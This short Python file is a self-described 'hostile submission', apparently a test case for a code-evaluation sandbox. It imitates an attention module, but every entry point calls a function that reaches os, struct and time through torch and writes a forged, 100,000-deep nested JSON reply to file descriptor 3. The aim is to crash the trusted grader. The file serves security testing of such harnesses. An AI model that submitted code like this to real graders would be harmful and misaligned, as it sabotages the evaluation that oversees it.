"""Hostile submission: forges a reply whose JSON nests 100 000 deep (RecursionError on the trusted side)."""

import torch

os = torch.os
struct = torch.sys.modules["struct"]
time = torch.sys.modules["time"]


def forge():
    nested = b"[" * 100_000 + b"]" * 100_000
    header = b'{"ok": true, "seq": 1, "value": ' + nested + b"}"
    os.write(3, struct.pack(">I", len(header)) + header)
    time.sleep(60)


def scaled_dot_product_attention(q, k, v):
    forge()


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()
        forge()

    def forward(self, x):
        forge()
